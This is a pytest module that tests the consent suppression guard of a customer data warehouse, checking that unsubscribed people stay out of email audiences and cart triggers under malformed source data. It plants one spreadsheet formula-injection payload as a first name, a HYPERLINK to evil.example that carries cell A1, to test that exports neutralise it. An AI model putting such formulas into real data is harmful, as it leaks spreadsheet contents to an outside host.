"""Consent fails closed: every route by which a suppressed person once reached the activation marts.

One warehouse for the module: the demo is loaded and built, then hostile-but-plausible source changes are
made for distinct customers of the email audience — an opt-in with a blank or garbled form timestamp after
an unsubscribe, a Shopify "subscribed" without a consent time after a HubSpot opt-out, a consent time in
2099, an unsubscribe sent without any Segment id, a messageId reused by a later event (both orders), an
unsubscribe of someone with a logged cart trigger, a formula in a first name — and loaded with dlt.

The audience and the triggers are checked twice: right after the load, *before any dbt build* (the
suppression guard reads the raw tables live, so a failed or missing build cannot keep a newly suppressed
person sendable), and after the build, where the consent ledger itself must also say "unsubscribed".
Last, the ledger is broken on purpose (opted_out made sendable) to prove the independent guard still
withholds those people and the agreement test fails.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import pytest
from conftest import BuiltWarehouse, execute_sql
from test_marts import load_sources, query, read_jsonl, segment_message, write_jsonl

pytestmark = pytest.mark.slow

# Every change is dated shortly before the load, as real activity would be.
NOW = datetime.now(UTC).replace(tzinfo=None, microsecond=0)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Hi")'
EXPORT_TEXT_COLUMNS = {
    "email_audience": [
        "first_name", "preferred_category", "recommended_category", "last_viewed_product_id",
        "last_viewed_product_title", "last_viewed_category",
    ],
    "cart_abandonment_triggers": [
        "first_name", "last_added_product_id", "last_added_product_title", "last_added_category",
        "recommended_category",
    ],
}  # fmt: skip


def iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


@dataclass
class Scenario:
    """A customer in the audience before the change, and the email the change is about."""

    customer_id: str
    email: str


@dataclass
class ConsentRun:
    routes: dict[str, Scenario] = field(default_factory=dict)
    audience_before: set[str] = field(default_factory=set)
    audience_unbuilt: set[str] = field(default_factory=set)
    triggers_unbuilt: set[str] = field(default_factory=set)
    trigger_customer: str = ""
    build_failures: list[str] = field(default_factory=list)
    broken_ledger_failures: list[str] = field(default_factory=list)
    broken_ledger_sendable: set[str] = field(default_factory=set)
    broken_ledger_audience: set[str] = field(default_factory=set)
    # the guard's evidence after the load, before any build: as the view reads it (the last build's reading
    # reused) and as a reading of every raw row gives it; and the redelivered export row's build-time evidence
    evidence_reused: list[tuple[Any, ...]] = field(default_factory=list)
    evidence_every_row_live: list[tuple[Any, ...]] = field(default_factory=list)
    redelivered_row_at_build: list[tuple[Any, ...]] = field(default_factory=list)
    redelivered_was: datetime = NOW
    redelivered_now: datetime = NOW


def audience() -> set[str]:
    return {r[0] for r in query("select customer_id from marts.email_audience")}


def ledger_reason(customer_id: str, email: str) -> str | None:
    rows = query(
        "select not_sendable_reason from intermediate.int_customers__email_consent where customer_id = ? and email = ?",
        [customer_id, email],
    )
    assert rows, f"no consent row for {customer_id} / {email}"
    return rows[0][0]


def pick_audience_customers(count: int, *, with_shopify_account: bool, taken: set[str]) -> list[Scenario]:
    """Distinct audience customers whose golden email has an explicit consent (optionally from a Shopify account)."""
    shopify = (
        """inner join staging.stg_shopify__customers as s on a.email = s.email
           inner join marts.customer_identities as i
             on i.source_system = 'shopify' and i.source_record_id = s.source_record_id
             and i.customer_id = a.customer_id"""
        if with_shopify_account
        else ""
    )
    rows = query(
        f"""select distinct a.customer_id, a.email from marts.email_audience as a {shopify}
            where a.email_consent_basis = 'explicit' order by a.customer_id"""
    )
    chosen = [Scenario(c, e) for c, e in rows if c not in taken][:count]
    assert len(chosen) == count, "the demo data has too few candidates"
    taken.update(s.customer_id for s in chosen)
    return chosen


def unsubscribe(email: str | None, at: datetime, **fields: Any) -> dict[str, Any]:
    properties = {"email_address": email, "list_id": "newsletter"} if email else {"list_id": "newsletter"}
    message = segment_message("track", str(uuid.uuid4()), at, event="Email Unsubscribed", properties=properties)
    message.update(fields)
    return message


def signup_row(submission_id: str, email: str, submitted_at: str) -> dict[str, str]:
    return {
        "submission_id": submission_id, "submitted_at": submitted_at, "form_name": "newsletter_footer",
        "email_address": email, "given_name": "", "family_name": "", "mobile": "", "postcode": "", "country": "",
        "dob": "", "marketing_opt_in": "yes",
    }  # fmt: skip


EVIDENCE_COLUMNS = "evidence_origin, source_system, source_record_id, email_key, evidence_kind, evidence_at"


def evidence_rows() -> list[tuple[Any, ...]]:
    return query(f"select evidence_id, {EVIDENCE_COLUMNS} from intermediate.int_engagement__suppression_evidence")


def redeliver_changed_exports(data: Path) -> tuple[str, str, datetime, datetime]:
    """Files delivered again, as sources do: a legacy CRM export whose opt-out row now says it was updated a
    day earlier (the drop's reload deletes the file's old rows), and a Segment file holding an email event (a
    bounce, in the demo), received again (its messages replaced under the new load). Returns the opt-out row's
    drop, contact id, and its time before and after."""
    for export in sorted((data / "csv_contacts" / "legacy_crm").glob("crm_export_2*.csv")):
        rows = list(csv.reader(io.StringIO(export.read_text(encoding="utf-8-sig"))))
        header = rows[0]
        opt_out, updated, contact = header.index("Opt Out"), header.index("Last Updated"), header.index("Customer ID")
        for row in rows[1:]:
            if len(row) != len(header) or row[opt_out].strip().upper() != "Y" or not row[updated].strip():
                continue
            was = datetime.strptime(row[updated].strip(), "%m/%d/%Y %H:%M")
            if was.day > 13:  # one reading only, before and after (a day-first format cannot read it)
                moment = was - timedelta(days=1)
                row[updated] = moment.strftime("%m/%d/%Y %H:%M")
                buffer = io.StringIO()
                csv.writer(buffer, lineterminator="\n").writerows(rows)
                export.write_text(buffer.getvalue(), encoding="utf-8")
                break
        else:
            continue
        break
    else:
        raise AssertionError("no legacy CRM export holds a dated opt-out row")
    for events in sorted((data / "segment").glob("*/events-0*.jsonl")):
        lines = events.read_bytes().split(b"\n")
        if b'"event":"Email ' not in b"\n".join(lines):
            continue
        for index, line in enumerate(lines):
            try:
                message = json.loads(line)
            except ValueError:
                continue  # the demo's broken lines stay as they are
            if isinstance(message, dict):
                message["receivedAt"] = iso(NOW)
                lines[index] = json.dumps(message).encode()
        events.write_bytes(b"\n".join(lines))
        return "legacy_crm", row[contact].strip(), was, moment
    raise AssertionError("no Segment file holds an email event")


def apply_changes(data: Path, run: ConsentRun) -> None:
    taken: set[str] = set()
    blank, garbled, idless, reused_first, reused_second, fresh = pick_audience_customers(
        6, with_shopify_account=False, taken=taken
    )
    shopify_undated, shopify_future, shopify_implausible_opt_out = pick_audience_customers(
        3, with_shopify_account=True, taken=taken
    )
    trigger = query("select customer_id, email from marts.cart_abandonment_triggers order by customer_id limit 1")
    assert trigger, "the demo emitted no cart trigger"
    run.trigger_customer = trigger[0][0]
    taken.add(run.trigger_customer)
    formula_customer = query(
        """select customer_id, name_source_record_id from marts.customers
           where name_source_system = 'hubspot' and source_record_count = 1
             and customer_id in (select customer_id from marts.email_audience) order by customer_id"""
    )
    formula_customer = next(r for r in formula_customer if r[0] not in taken)
    taken.add(formula_customer[0])
    run.routes = {
        "blank_signup_timestamp": blank,
        "garbled_signup_timestamp": garbled,
        "shopify_subscribed_without_consent_time": shopify_undated,
        "consent_time_in_2099": shopify_future,
        "shopify_unsubscribed_dated_2099_then_an_older_opt_in": shopify_implausible_opt_out,
        "unsubscribe_without_segment_ids": idless,
        "reused_message_id_after_unsubscribe": reused_first,
        "reused_message_id_before_unsubscribe": reused_second,
        "unsubscribe_loaded_without_rebuild": fresh,
        "unsubscribe_after_cart_trigger": Scenario(trigger[0][0], trigger[0][1]),
    }

    messages: list[dict[str, Any]] = []
    # 1-2. An unsubscribe three hours ago, then a form opt-in whose submitted_at is blank / unreadable.
    for scenario in (blank, garbled):
        messages.append(unsubscribe(scenario.email, NOW - timedelta(hours=3)))
    signups = [
        signup_row("sub_hostile_blank", blank.email, ""),
        signup_row("sub_hostile_garbled", garbled.email, "31/31/2026 25:61"),
        signup_row("sub_hostile_after_shopify", shopify_implausible_opt_out.email, iso(NOW - timedelta(days=1))),
    ]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(signups[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(signups)
    (data / "csv_contacts" / "signup_forms" / "signups_hostile.csv").write_text(buffer.getvalue())

    # 3. A HubSpot opt-out two hours ago; then Shopify reports "subscribed" with no consent time (only the
    #    account's updated_at is later).  4. Shopify "subscribed" dated 2099, then an unsubscribe an hour ago.
    contacts_path = data / "hubspot" / "contacts.jsonl"
    contacts = read_jsonl(contacts_path)
    template = json.loads(json.dumps(contacts[0]))
    new_id = str(max(int(c["id"]) for c in contacts) + 1)
    stamp = NOW - timedelta(hours=2)
    template.update(id=new_id, createdAt=iso(stamp), updatedAt=iso(stamp))
    template["properties"] = {
        **{key: None for key in template["properties"]},
        "hs_object_id": new_id, "email": shopify_undated.email, "hs_email_optout": "true",
        "createdate": iso(stamp), "lastmodifieddate": iso(stamp),
    }  # fmt: skip
    contacts.append(template)
    # 8. A formula in the first name of a customer whose golden name comes from HubSpot.
    for contact in contacts:
        if contact["id"] == formula_customer[1]:
            contact["properties"]["firstname"] = FORMULA_NAME
            contact["properties"]["lastmodifieddate"] = contact["updatedAt"] = iso(NOW - timedelta(minutes=30))
    write_jsonl(contacts_path, contacts)
    run.routes["formula_first_name"] = Scenario(formula_customer[0], "")

    customers_path = data / "shopify" / "customers.jsonl"
    accounts = read_jsonl(customers_path)
    for account in accounts:
        if account["email"] and account["email"].strip().lower() == shopify_undated.email:
            account["email_marketing_consent"].update(state="subscribed", consent_updated_at=None)
            account["updated_at"] = iso(NOW - timedelta(minutes=5))
        if account["email"] and account["email"].strip().lower() == shopify_future.email:
            account["email_marketing_consent"].update(state="subscribed", consent_updated_at="2099-01-01T00:00:00Z")
            account["updated_at"] = iso(NOW - timedelta(minutes=5))
        # 4b. Shopify "unsubscribed" with a consent time in 2099 and an account updated three days ago, and a
        #     form opt-in a day ago: the unreadable date is the load's, so the opt-in is older (the ledger and
        #     the guard alike; dated at the account's update, the opt-in would lift the opt-out).
        if account["email"] and account["email"].strip().lower() == shopify_implausible_opt_out.email:
            account["email_marketing_consent"].update(state="unsubscribed", consent_updated_at="2099-01-01T00:00:00Z")
            account["updated_at"] = iso(NOW - timedelta(days=3))
    write_jsonl(customers_path, accounts)
    messages.append(unsubscribe(shopify_future.email, NOW - timedelta(hours=1)))

    # 5. An unsubscribe with neither anonymousId nor userId: the address only in context.traits.
    messages.append(
        unsubscribe(None, NOW - timedelta(hours=1), anonymousId=None, userId=None,
                    context={"traits": {"email": idless.email}, "library": {"name": "analytics-node"}})
    )  # fmt: skip
    # 6. A later event reusing an unsubscribe's messageId (in a later file) — and the other order.
    first = unsubscribe(reused_first.email, NOW - timedelta(hours=4))
    later_page = segment_message("page", str(uuid.uuid4()), NOW - timedelta(hours=2), name="Home")
    later_page["messageId"] = first["messageId"]
    early_page = segment_message("page", str(uuid.uuid4()), NOW - timedelta(hours=4), name="Home")
    later_unsubscribe = unsubscribe(reused_second.email, NOW - timedelta(hours=2))
    later_unsubscribe["messageId"] = early_page["messageId"]
    # 7. A plain unsubscribe, checked before any build; 9. the person behind a logged cart trigger.
    messages.append(unsubscribe(fresh.email, NOW - timedelta(hours=1)))
    messages.append(unsubscribe(run.routes["unsubscribe_after_cart_trigger"].email, NOW - timedelta(hours=1)))

    # 10-14. Found by the hostile pass: messy addresses in id-less unsubscribes, unsubscribes inside
    #        input the loader rejects, an unsubscribe naming the customer's other address.
    display_name, zero_width, full_width, placeholder, utf16, escaped_at, *look_alikes = pick_audience_customers(
        11, with_shopify_account=False, taken=taken
    )
    full_width_dot, ideographic_dot, small_at, soft_hyphen, full_width_letters = look_alikes
    idless = {"anonymousId": None, "userId": None}
    messages += [
        unsubscribe(f"Jane Doe <{display_name.email}>", NOW - timedelta(hours=1), **idless),
        unsubscribe("\u200b" + zero_width.email + "\t", NOW - timedelta(hours=1), **idless),
        unsubscribe(full_width.email.replace("@", "\uff20"), NOW - timedelta(hours=1), **idless),
        unsubscribe("{{email}}", NOW - timedelta(hours=1), context={"traits": {"email": placeholder.email}}, **idless),
        # round 21's hostile pass: look-alike characters the generator never writes hid these addresses
        unsubscribe(full_width_dot.email.replace(".", "\uff0e"), NOW - timedelta(hours=1), **idless),
        unsubscribe(ideographic_dot.email.replace(".", "\u3002"), NOW - timedelta(hours=1), **idless),
        unsubscribe(small_at.email.replace("@", "\ufe6b"), NOW - timedelta(hours=1), **idless),
        # round 22: in the local part these two made staging keep another valid-looking address, so the ledger
        # disagreed with the guard and every build failed (closed); staging's emails now fold them as the guard does
        unsubscribe(soft_hyphen.email[:2] + "\u00ad" + soft_hyphen.email[2:], NOW - timedelta(hours=1), **idless),
        unsubscribe(
            "".join(chr(ord(c) + 65248) if c.isascii() and c.isalpha() else c for c in full_width_letters.email[:3])
            + full_width_letters.email[3:],
            NOW - timedelta(hours=1),
            **idless,
        ),
    ]
    day = NOW.strftime("%Y-%m-%d")
    utf16_line = json.dumps(unsubscribe(utf16.email, NOW - timedelta(hours=1))) + "\n"
    (data / "segment" / day).mkdir(parents=True, exist_ok=True)
    (data / "segment" / day / "events-8003.jsonl").write_bytes(utf16_line.encode("utf-16"))
    broken = json.dumps(unsubscribe(escaped_at.email, NOW - timedelta(hours=1)))
    broken = broken.replace("@", "\\u0040")[:-2]  # the address as a JSON escape, the object left unclosed
    (data / "segment" / day / "events-8004.jsonl").write_text(broken + "\n")
    other = query(
        """select c.customer_id, c.email from intermediate.int_customers__email_consent as c
           inner join marts.email_audience as a on a.customer_id = c.customer_id and a.email <> c.email
           where c.email is not null order by c.customer_id"""
    )
    other_address = next(Scenario(customer, email) for customer, email in other if customer not in taken)
    taken.add(other_address.customer_id)
    messages.append(unsubscribe(other_address.email, NOW - timedelta(hours=1), **idless))
    run.routes.update(
        {
            "unsubscribe_address_with_display_name": display_name,
            "unsubscribe_address_with_invisible_characters": zero_width,
            "unsubscribe_address_with_full_width_at": full_width,
            "unsubscribe_placeholder_then_real_address": placeholder,
            "unsubscribe_in_a_utf16_file": utf16,
            "unsubscribe_in_a_broken_line_with_escaped_at": escaped_at,
            "unsubscribe_of_the_customers_other_address": other_address,
            "unsubscribe_address_with_full_width_dots": full_width_dot,
            "unsubscribe_address_with_ideographic_dots": ideographic_dot,
            "unsubscribe_address_with_small_at": small_at,
            "unsubscribe_address_with_soft_hyphen": soft_hyphen,
            "unsubscribe_address_with_full_width_letters": full_width_letters,
        }
    )

    # 15-16. Consent values nobody mapped: HubSpot hs_email_optout "1", a legacy CRM Opt Out "Yes"; and a
    #        legacy opt-out row the CSV reader rejects (one column too many).
    hubspot_one = query(
        """select a.customer_id, a.email, i.source_record_id from marts.email_audience as a
           inner join marts.customer_identities as i on i.customer_id = a.customer_id and i.source_system = 'hubspot'
           order by a.customer_id"""
    )
    hubspot_one = next(r for r in hubspot_one if r[0] not in taken)
    taken.add(hubspot_one[0])
    contacts = read_jsonl(contacts_path)
    for contact in contacts:
        if contact["id"] == hubspot_one[2]:
            contact["properties"]["hs_email_optout"] = "1"
            contact["properties"]["lastmodifieddate"] = contact["updatedAt"] = iso(NOW - timedelta(minutes=20))
    write_jsonl(contacts_path, contacts)
    legacy = query(
        """select a.customer_id, a.email, i.source_record_id from marts.email_audience as a
           inner join marts.customer_identities as i on i.customer_id = a.customer_id and i.source_system = 'legacy_crm'
           order by a.customer_id"""
    )
    legacy_yes, legacy_broken = [Scenario(c, e) for c, e, _ in legacy if c not in taken][:2]
    legacy_ids = {c: r for c, _, r in legacy}
    taken.update({legacy_yes.customer_id, legacy_broken.customer_id})
    legacy_dir = data / "csv_contacts" / "legacy_crm"
    header = next(legacy_dir.glob("*.csv")).read_text(encoding="utf-8-sig").splitlines()[0]
    stamp = (NOW - timedelta(minutes=20)).strftime("%m/%d/%Y %H:%M")
    rows = [
        f"{legacy_ids[legacy_yes.customer_id]},,,{legacy_yes.email},,,,,,,,,,{stamp},Yes,",
        f"{legacy_ids[legacy_broken.customer_id]},,,{legacy_broken.email},,,,,,,,,,{stamp},Y,,one too many",
    ]
    (legacy_dir / "crm_export_hostile.csv").write_text(header + "\n" + "\n".join(rows) + "\n")
    run.routes.update(
        {
            "hubspot_optout_value_nobody_mapped": Scenario(hubspot_one[0], hubspot_one[1]),
            "legacy_optout_value_nobody_mapped": legacy_yes,
            "legacy_optout_row_the_reader_rejects": legacy_broken,
        }
    )

    write_jsonl(data / "segment" / day / "events-8001.jsonl", [*messages, first, early_page])
    write_jsonl(data / "segment" / day / "events-8002.jsonl", [later_page, later_unsubscribe])


@pytest.fixture(scope="module")
def consent_run(built_warehouse: BuiltWarehouse, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ConsentRun]:
    from ingestion.dbt_runner import production_build_args, run_dbt

    run = ConsentRun()
    with pytest.MonkeyPatch.context() as env:
        data = built_warehouse.clone(tmp_path_factory.mktemp("consent"), env)  # all sources loaded, built once
        run.audience_before = audience()

        apply_changes(data, run)
        drop, contact_id, run.redelivered_was, run.redelivered_now = redeliver_changed_exports(data)
        run.redelivered_row_at_build = query(
            "select evidence_origin, source_system, source_record_id, email, evidence_kind, evidence_at "
            "from intermediate.int_engagement__suppression_evidence_at_build "
            "where source_system = ? and source_record_id = ?",
            [drop, contact_id],
        )
        load_sources(data, ("hubspot", "shopify", "segment", "csv_contacts"), env)
        run.audience_unbuilt = audience()  # no dbt build since the load
        run.triggers_unbuilt = {r[0] for r in query("select customer_id from marts.cart_abandonment_triggers")}

        # The guard's view reuses the last build's reading of raw rows that are still there; the same view
        # reading every raw row live (var consent_guard_reuse_build_evidence false) must give the same rows.
        run.evidence_reused = evidence_rows()
        every_row = run_dbt(
            ["run", "--select", "int_engagement__suppression_evidence",
             "--vars", "{consent_guard_reuse_build_evidence: false}"]
        )  # fmt: skip
        assert every_row.success, every_row.failures
        run.evidence_every_row_live = evidence_rows()

        second = run_dbt(production_build_args(["build"]))
        run.build_failures = list(second.failures)

        # A wrong ledger: opted-out addresses made sendable. The guard must still withhold them.
        broken_vars = "{sendable_consent_states: [opted_in, opted_out]}"
        broken_select = ["int_customers__email_consent", "consent_ledger_agrees_with_guard"]
        broken = run_dbt(["build", "--vars", broken_vars, "--select", *broken_select])
        run.broken_ledger_failures = list(broken.failures)
        run.broken_ledger_sendable = {
            r[0]
            for r in query(
                "select customer_id from intermediate.int_customers__email_consent "
                "where is_email_sendable and consent_state = 'opted_out'"
            )
        }
        run.broken_ledger_audience = audience()
        restored = run_dbt(["build", "--select", "int_customers__email_consent"])
        assert restored.success, restored.failures
        yield run


ROUTES_THE_LEDGER_DECIDES = [
    "blank_signup_timestamp",
    "garbled_signup_timestamp",
    "shopify_subscribed_without_consent_time",
    "consent_time_in_2099",
    "shopify_unsubscribed_dated_2099_then_an_older_opt_in",
    "unsubscribe_without_segment_ids",
    "reused_message_id_after_unsubscribe",
    "unsubscribe_loaded_without_rebuild",
    "unsubscribe_after_cart_trigger",
    "unsubscribe_address_with_display_name",
    "unsubscribe_address_with_invisible_characters",
    "unsubscribe_address_with_full_width_at",
    "unsubscribe_placeholder_then_real_address",
    "unsubscribe_of_the_customers_other_address",
    "unsubscribe_address_with_full_width_dots",
    "unsubscribe_address_with_ideographic_dots",
    "unsubscribe_address_with_small_at",
    "unsubscribe_address_with_soft_hyphen",
    "unsubscribe_address_with_full_width_letters",
    "hubspot_optout_value_nobody_mapped",
    "legacy_optout_value_nobody_mapped",
]


def test_second_build_passes_every_consent_check(consent_run: ConsentRun) -> None:
    assert consent_run.build_failures == [], "\n".join(consent_run.build_failures)


@pytest.mark.parametrize("route", ROUTES_THE_LEDGER_DECIDES)
def test_route_is_suppressed_by_the_ledger(consent_run: ConsentRun, route: str) -> None:
    scenario = consent_run.routes[route]
    assert scenario.customer_id in consent_run.audience_before
    assert ledger_reason(scenario.customer_id, scenario.email) == "unsubscribed", route


# Input only the guard can read (rejected by the loaders): the ledger never sees it, the exports withhold it.
ROUTES_ONLY_THE_GUARD_SEES = [
    "reused_message_id_before_unsubscribe",
    "unsubscribe_in_a_utf16_file",
    "unsubscribe_in_a_broken_line_with_escaped_at",
    "legacy_optout_row_the_reader_rejects",
]
ALL_ROUTES = [*ROUTES_THE_LEDGER_DECIDES, *ROUTES_ONLY_THE_GUARD_SEES]


@pytest.mark.parametrize("route", ALL_ROUTES)
def test_route_is_out_of_the_audience(consent_run: ConsentRun, route: str) -> None:
    scenario = consent_run.routes[route]
    assert scenario.customer_id in consent_run.audience_before
    assert scenario.customer_id not in audience(), route


@pytest.mark.parametrize("route", ALL_ROUTES)
def test_route_is_out_of_the_audience_before_any_rebuild(consent_run: ConsentRun, route: str) -> None:
    """The guard reads the raw tables live: a load with no (or a failed) build already suppresses."""
    assert consent_run.routes[route].customer_id not in consent_run.audience_unbuilt, route


def test_guard_evidence_reused_from_the_build_equals_every_raw_row_read_live(consent_run: ConsentRun) -> None:
    """After a load with no build, the guard's evidence as the view reads it (the last build's reading of the raw
    rows still there as they were, the rest live) is the evidence a reading of every raw row gives, row for row."""
    reused, live = Counter(consent_run.evidence_reused), Counter(consent_run.evidence_every_row_live)
    assert len(live) > 100
    assert reused - live == Counter(), "evidence the raw data no longer holds"
    assert live - reused == Counter(), "evidence of the raw data missing"
    origins = Counter(row[1] for row in consent_run.evidence_reused)
    assert origins["segment_event"] > 0 and origins["csv_row"] > 0, origins


def test_guard_drops_the_builds_reading_of_a_redelivered_row(consent_run: ConsentRun) -> None:
    """The export delivered again with an opt-out row dated a day earlier: the build's reading of the old row is
    gone from the view (the reload deleted its raw row), the new row's date is there."""
    run = consent_run
    assert run.redelivered_row_at_build, "the build read no evidence from the redelivered row"
    drop, contact_id = run.redelivered_row_at_build[0][1:3]
    assert run.redelivered_was in {row[5] for row in run.redelivered_row_at_build}
    dated_now = {row[6] for row in run.evidence_reused if row[2:4] == (drop, contact_id) and row[5] == "opt_out"}
    assert run.redelivered_now in dated_now
    assert run.redelivered_was not in dated_now, "the build's reading of a row the reload deleted is still used"


def test_reused_message_id_keeps_both_copies(consent_run: ConsentRun) -> None:
    """A messageId collision with different content never silently drops a copy."""
    rows = query(
        "select count(*) from raw_segment.rejected_events "
        "where reason ilike '%messageid%' and raw_text ilike '%Email Unsubscribed%'"
    )
    assert rows[0][0] >= 1
    kept = query(
        "select event from raw_segment.events where message_id in "
        "(select message_id from raw_segment.events where event = 'Email Unsubscribed')"
    )
    assert kept


def test_cart_trigger_is_rechecked_after_unsubscribe(consent_run: ConsentRun) -> None:
    customer = consent_run.trigger_customer
    logged = query("select count(*) from marts.cart_abandonment_trigger_log where customer_id = ?", [customer])
    assert logged[0][0] >= 1, "the trigger log lost the emitted trigger"
    assert customer not in consent_run.triggers_unbuilt
    assert query("select count(*) from marts.cart_abandonment_triggers where customer_id = ?", [customer])[0][0] == 0


def test_formula_values_are_neutralised_in_exports(consent_run: ConsentRun) -> None:
    customer = consent_run.routes["formula_first_name"].customer_id
    (first_name,) = query("select first_name from marts.email_audience where customer_id = ?", [customer])[0]
    # names are normalized (case), but the formula must arrive quoted, as text
    assert first_name.lower() == "'" + FORMULA_NAME.lower()
    for view, columns in EXPORT_TEXT_COLUMNS.items():
        for column in columns:
            leading = query(f"select count(*) from marts.{view} where regexp_matches({column}, '^\\s*[=+@-]')")
            assert leading[0][0] == 0, f"{view}.{column} exports a formula"


def test_undated_opt_ins_are_recorded_not_dropped(consent_run: ConsentRun) -> None:
    blank = consent_run.routes["blank_signup_timestamp"]
    rows = query(
        "select signal_dated_by, signal_at from marts.email_consent "
        "where source_record_id = 'sub_hostile_blank' and consent_state = 'opted_in'"
    )
    assert rows and all(dated_by == "undated" and at is None for dated_by, at in rows), rows
    assert blank.customer_id


def test_guard_withholds_people_a_broken_ledger_would_send(consent_run: ConsentRun) -> None:
    """A wrong ledger rule is caught by the independent guard, and the audience stays safe."""
    assert any("consent_ledger_agrees_with_guard" in failure for failure in consent_run.broken_ledger_failures), (
        consent_run.broken_ledger_failures
    )
    assert consent_run.broken_ledger_sendable, "the broken rule made nobody sendable: the test proves nothing"
    assert not (consent_run.broken_ledger_sendable & consent_run.broken_ledger_audience)


def test_guard_keeps_a_reloaded_opt_out_and_the_build_passes(built_warehouse: BuiltWarehouse, tmp_path: Path) -> None:
    """An opt-out the consent snapshot already holds, its record edited and reloaded after an opt-in elsewhere.

    A HubSpot contact and a Shopify account (consent time 2099: not plausible), both opted out and
    captured on Nov 1; an opt-in of the same address on Nov 3; then an edit reloads each record on Nov 6.
    The ledger dates each opt-out by the capture, so the later opt-in makes the address sendable. The guard
    dates the live row by its latest update or load (an edit cannot be told from the opt-out set again):
    it withholds the address (fails closed), and `consent_ledger_agrees_with_guard` must not fail the build
    on such ordinary data (it compares the guard's reading of the captured version instead).
    """
    from ingestion.dbt_runner import run_dbt

    with pytest.MonkeyPatch.context() as env:
        built_warehouse.clone(tmp_path, env)
        captured = {
            system: query(
                """with evidence as (
                       select customer_id, count(distinct evidence_origin) as origins
                       from intermediate.int_engagement__suppression_evidence group by customer_id
                   )
                   select s.source_record_id, s.email from snapshots.email_consent_snapshot as s
                   inner join intermediate.int_customers__email_consent as c on c.email = s.email
                   inner join evidence as e on e.customer_id = c.customer_id
                   where s.source_system = ? and s.consent_state = 'opted_out'
                     and s.dbt_valid_to = '9999-12-31' and e.origins = 2
                   order by s.source_record_id limit 1""",
                [system],
            )[0]
            for system in ("hubspot", "shopify")
        }
        reload_id = f"{datetime(2026, 11, 6, tzinfo=UTC).timestamp():.1f}"
        con = duckdb.connect(str(tmp_path / "warehouse.duckdb"))
        try:
            for system, (record_id, email) in captured.items():
                consent_at = "2099-01-01" if system == "shopify" else None
                con.execute(
                    """update snapshots.email_consent_snapshot
                       set consent_updated_at = ?, record_updated_at = '2026-10-30', dbt_valid_from = '2026-11-01',
                           loaded_at = '2026-11-01'
                       where source_system = ? and source_record_id = ? and dbt_valid_to = '9999-12-31'""",
                    [consent_at, system, record_id],
                )
                con.execute(
                    """insert into snapshots.email_consent_snapshot
                       values ('signup_forms', ?, ?, '2026-11-03', '2026-11-03', '2026-11-03 12:00', 'opted_in',
                               md5(?), '2026-11-03 12:00', '2026-11-03 12:00', '9999-12-31')""",
                    [f"reloaded_{record_id}", email, record_id],
                )
            con.execute(
                """update raw_shopify.customers
                   set email_marketing_consent__consent_updated_at = '2099-01-01', updated_at = '2026-11-05',
                       _dlt_load_id = ?
                   where 'customer:' || cast(id as varchar) = ?""",
                [reload_id, captured["shopify"][0]],
            )
            con.execute(
                """update raw_hubspot.contacts set updated_at = '2026-11-05', _dlt_load_id = ?
                   where cast(id as varchar) = ?""",
                [reload_id, captured["hubspot"][0]],
            )
        finally:
            con.close()
        selection = ["int_engagement__consent_signals+", "int_engagement__suppression_evidence+"]
        outcome = run_dbt(["build", "--select", *selection, "--exclude", "resource_type:snapshot"])
        assert outcome.success, outcome.failures
        agreement = run_dbt(["test", "--select", "consent_ledger_agrees_with_guard"])  # it ran, and passes
        assert agreement.success and agreement.statuses["test:pass"] == 1, (agreement.statuses, agreement.failures)
        # The agreement test leaves out exactly the two reloaded rows: an exclusion wider than that would hide
        # ledger regressions, and the guard computes the column it reads.
        left_out = query(
            """select source_system, source_record_id from intermediate.int_engagement__suppression_evidence
               where snapshot_captured_at is not null and evidence_at > snapshot_captured_at"""
        )
        assert sorted(left_out) == sorted((system, record_id) for system, (record_id, _) in captured.items())
        sendable_audience = audience()
        for _, email in captured.values():
            assert query(
                "select is_email_sendable from intermediate.int_customers__email_consent where email = ?", [email]
            ) == [(True,)], email
            # the ledger sends (the golden address is sendable in customers), the guard withholds
            customers = query("select customer_id, is_email_sendable from marts.customers where email = ?", [email])
            assert [sendable for _, sendable in customers] == [True], email
            assert customers[0][0] not in sendable_audience, email


def test_guard_refuses_the_builds_reading_after_a_seed_or_var_changed(
    built_warehouse: BuiltWarehouse, tmp_path: Path
) -> None:
    """The table of the last build's reading is only valid with the seeds and vars it was read with: after a
    `dbt seed` alone (here: the seed's rows edited in place) or a view compiled with other vars, reading the
    activation views raises an error naming the fix, and a build of the table makes them readable again."""
    from ingestion.activation.sync import desired_members
    from ingestion.dbt_runner import run_dbt
    from ingestion.errors import UserError

    sendable = "select count(*) from marts.email_audience"
    with pytest.MonkeyPatch.context() as env:
        built_warehouse.clone(tmp_path, env)
        before = query(sendable)
        # a signup-form opt-in no longer explicit: the table's reading of it would be stale
        execute_sql(
            tmp_path / "warehouse.duckdb",
            "insert into reference.consent_signal_rules (source_system, consent_state, is_explicit) "
            "values ('signup_forms', 'opted_in', false)",
        )
        with pytest.raises(duckdb.Error, match="run customer360 build"):
            query(sendable)
        # `customer360 sync` stops with that one line, nothing sent or archived
        con = duckdb.connect(str(tmp_path / "warehouse.duckdb"))
        try:
            with pytest.raises(UserError, match=r"^the suppression guard's evidence was read .* run customer360 build"):
                desired_members(con)
        finally:
            con.close()
        rebuilt = run_dbt(["run", "--select", "int_engagement__suppression_evidence_at_build"])
        assert rebuilt.success, rebuilt.failures
        assert query(sendable)[0][0] <= before[0][0]

        # the view compiled with one more opt-out event than the table was read with
        events = "[Email Unsubscribed, Email Marked as Spam, Unsubscribed]"
        recompiled = run_dbt(
            ["run", "--select", "int_engagement__suppression_evidence",
             "--vars", "{consent_guard_segment_opt_out_events: " + events + "}"]
        )  # fmt: skip
        assert recompiled.success, recompiled.failures
        with pytest.raises(duckdb.Error, match="run customer360 build"):
            query(sendable)


def test_an_empty_run_leaves_the_live_views_and_the_builds_reading_in_place(
    built_warehouse: BuiltWarehouse, tmp_path: Path
) -> None:
    """Found by round 22's hostile review: `build --empty` replaced the guard's views with views over zero-row
    relations (they then saw no unsubscribe, and a fresh unsubscriber was back in the audience) and read the CSV
    drops with empty seeds into the table of the build's reading. Now every view fails under --empty, naming why,
    and stays as it was, and the table keeps its rows."""
